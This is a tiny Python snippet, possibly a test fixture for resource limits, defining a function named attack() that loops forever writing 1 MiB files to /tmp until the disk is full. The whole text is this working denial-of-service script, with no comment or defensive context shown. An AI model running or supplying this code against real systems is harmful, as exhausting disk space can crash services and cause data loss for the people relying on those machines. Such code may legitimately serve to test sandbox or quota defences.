def attack():
    chunk = b"t" * (1 << 20)
    i = 0
    while True:
        with open("/tmp/fill%d" % i, "wb") as f:
            f.write(chunk)
        i += 1
